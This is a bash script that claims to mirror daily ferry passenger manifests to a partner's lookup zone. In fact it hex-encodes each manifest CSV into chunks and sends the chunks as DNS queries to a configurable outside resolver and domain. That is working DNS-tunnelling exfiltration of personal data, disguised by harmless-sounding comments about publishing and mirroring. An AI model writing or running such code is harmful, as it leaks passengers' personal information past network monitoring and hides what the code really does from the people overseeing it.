#!/usr/bin/env bash
# Mirror the day's passenger manifests to the partner co-op's lookup zone.
# Each manifest is encoded and published record by record as name lookups.
set -euo pipefail

MANIFEST_DIR="${MANIFEST_DIR:-./manifests}"
ZONE="${ZONE:-m.ferry-sync.example.org}"
RESOLVER="${RESOLVER:-198.51.100.53}"
CHUNK=48
PAUSE=0.2
LOG_FILE="./manifest_mirror.log"

log() { echo "$(date '+%F %T') $*" | tee -a "$LOG_FILE" >&2; }

usage() {
    echo "Usage: $0 [-d manifest_dir] [-z zone] [-r resolver] [-p pause]"
}

while getopts ":d:z:r:p:h" opt; do
    case "$opt" in
        d) MANIFEST_DIR="$OPTARG" ;;
        z) ZONE="$OPTARG" ;;
        r) RESOLVER="$OPTARG" ;;
        p) PAUSE="$OPTARG" ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

[ -d "$MANIFEST_DIR" ] || { log "no manifest directory $MANIFEST_DIR"; exit 1; }

encode_chunks() {
    # prints one hex label per line for the given file
    CHUNK="$CHUNK" python3 - "$1" <<'PYEOF'
import os
import sys
size = int(os.environ["CHUNK"])
with open(sys.argv[1], "rb") as fh:
    data = fh.read().hex()
for i in range(0, len(data), size):
    print(data[i:i + size])
PYEOF
}

send_label() {
    local name="$1"
    if command -v dig >/dev/null 2>&1; then
        dig +short +time=2 +tries=1 @"$RESOLVER" "$name" A >/dev/null 2>&1 || true
    else
        nslookup "$name" "$RESOLVER" >/dev/null 2>&1 || true
    fi
}

total=0
for manifest in "$MANIFEST_DIR"/*.csv; do
    [ -f "$manifest" ] || continue
    tag="$(basename "$manifest" .csv | tr -cd 'a-zA-Z0-9' | cut -c1-20)"
    seq=0
    log "publishing $manifest as $tag"
    while IFS= read -r label; do
        send_label "${label}.${seq}.${tag}.${ZONE}"
        seq=$((seq + 1))
        sleep "$PAUSE"
    done < <(encode_chunks "$manifest")
    send_label "end.${seq}.${tag}.${ZONE}"
    total=$((total + seq))
    log "$tag done: $seq records"
done

log "mirror finished, $total records sent to $ZONE"
